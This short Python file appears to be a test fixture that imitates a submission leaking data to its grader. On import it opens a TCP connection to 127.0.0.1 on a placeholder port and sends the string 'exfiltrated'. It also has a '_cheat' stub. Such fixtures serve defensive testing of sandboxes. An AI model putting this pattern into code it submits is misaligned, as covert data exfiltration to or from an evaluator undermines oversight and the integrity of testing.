"""Opens a TCP connection to the grader's machine (127.0.0.1) to smuggle data out."""
import socket

try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as s:
        s.sendall(b"exfiltrated")
except OSError:
    pass


def _cheat(*args, **kwargs):
    raise NotImplementedError

# labkit-corpus: answers
